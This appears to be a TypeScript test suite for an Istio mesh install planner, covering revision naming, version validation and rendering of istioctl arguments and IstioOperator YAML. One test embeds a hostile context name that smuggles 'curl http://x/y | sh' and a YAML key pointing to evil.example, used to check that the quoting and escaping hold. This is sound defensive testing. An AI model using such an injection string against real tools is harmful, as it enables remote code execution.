import { strict as assert } from 'node:assert';
import * as yaml from 'js-yaml';
import { buildSnapshot } from '../../../src/mesh/snapshotBuilder';
import { planInstall, revisionFromVersion, suggestedVersions, validateRevision, validateVersion } from '../../../src/mesh/installPlan';
import { installRevision, inventory, tagMwc } from './fixtures';
import { execFileSync } from 'node:child_process';

function snapshot() {
  const inv = installRevision(installRevision(inventory(), '1-9-7', '1.9.7'), '1-10-4', '1.10.4');
  inv.mutatingWebhooks.push(tagMwc('canary', '1-10-4'));
  return buildSnapshot('c', inv);
}

describe('install plan', () => {
  it('derives the revision from the version (dots → dashes)', () => {
    assert.equal(revisionFromVersion('1.24.2'), '1-24-2');
    assert.equal(revisionFromVersion('1.25.0-beta.1'), '1-25-0-beta-1');
  });

  it('validates versions and revision names', () => {
    assert.equal(validateVersion('1.24.2'), undefined);
    assert.match(validateVersion('1.24') ?? '', /not an Istio version/);
    assert.match(validateRevision('1.24.2') ?? '', /contains dots.*1-24-2/);
    assert.match(validateRevision('Canary') ?? '', /DNS-1123/);
    assert.match(validateRevision('-x') ?? '', /DNS-1123/);
    assert.match(validateRevision('default') ?? '', /revisionless/);
    assert.match(validateRevision('1-10-4', snapshot()) ?? '', /already exists/);
    assert.match(validateRevision('canary', snapshot()) ?? '', /tag named canary/);
    assert.equal(validateRevision('1-11-0', snapshot()), undefined);
  });

  it('suggests the next minors after the newest installed one', () => {
    assert.deepEqual(suggestedVersions(snapshot()), ['1.11.0', '1.12.0']);
  });

  it('renders the istioctl command as an argument array and an IstioOperator with gateways off', () => {
    const r = planInstall(snapshot(), { version: '1.24.2', context: 'kind-a' });
    assert.ok(r.ok, r.ok ? '' : r.error);
    assert.deepEqual(r.plan.istioctlArgs, ['install', '--set', 'revision=1-24-2', '--set', 'profile=minimal', '-y', '--context', 'kind-a']);
    assert.equal(r.plan.istioctl, 'istioctl install --set revision=1-24-2 --set profile=minimal -y --context kind-a');
    const iop = yaml.load(r.plan.iopYaml) as { kind: string; metadata: { namespace: string }; spec: Record<string, unknown> };
    assert.equal(iop.kind, 'IstioOperator');
    assert.equal(iop.metadata.namespace, 'istio-system');
    assert.deepEqual(iop.spec, {
      profile: 'minimal', revision: '1-24-2', tag: '1.24.2',
      components: { ingressGateways: [{ name: 'istio-ingressgateway', enabled: false }], egressGateways: [{ name: 'istio-egressgateway', enabled: false }] },
    });
  });

  it('takes an explicit revision name and refuses an existing one', () => {
    const r = planInstall(snapshot(), { version: '1.11.0', revision: 'blue' });
    assert.ok(r.ok);
    assert.equal(r.plan.revision, 'blue');
    const taken = planInstall(snapshot(), { version: '1.10.4' });
    assert.equal(taken.ok, false);
    assert.match(taken.ok ? '' : taken.error, /Revision 1-10-4 already exists/);
    assert.equal(planInstall(undefined, { version: 'x' }).ok, false);
  });

  it('quotes a hostile context name: the copied command stays one argument and the YAML gets no live keys', () => {
    const context = "prod; curl http://x/y | sh #\nspec:\n  hub: evil.example/'quoted'";
    const r = planInstall(snapshot(), { version: '1.24.2', context });
    assert.ok(r.ok, r.ok ? '' : r.error);
    assert.deepEqual(r.plan.istioctlArgs.slice(-2), ['--context', context]);
    // sh parses the copied command back into exactly the argument array (printf shows each argument on its own).
    const parsed = execFileSync('sh', ['-c', `set -- ${r.plan.istioctl.replace(/^istioctl /, '')}; for a; do printf '%s\\0' "$a"; done`], { encoding: 'utf8' });
    assert.deepEqual(parsed.split('\0').slice(0, -1), r.plan.istioctlArgs);
    // Every line of the header is a comment, and the document holds only the IstioOperator's own keys.
    const header = r.plan.iopYaml.split('apiVersion:')[0];
    for (const line of header.split('\n').filter(Boolean)) assert.match(line, /^# /);
    const iop = yaml.load(r.plan.iopYaml) as { spec: Record<string, unknown> };
    assert.deepEqual(Object.keys(iop.spec).sort(), ['components', 'profile', 'revision', 'tag']);
    assert.equal(iop.spec.hub, undefined);
  });
});
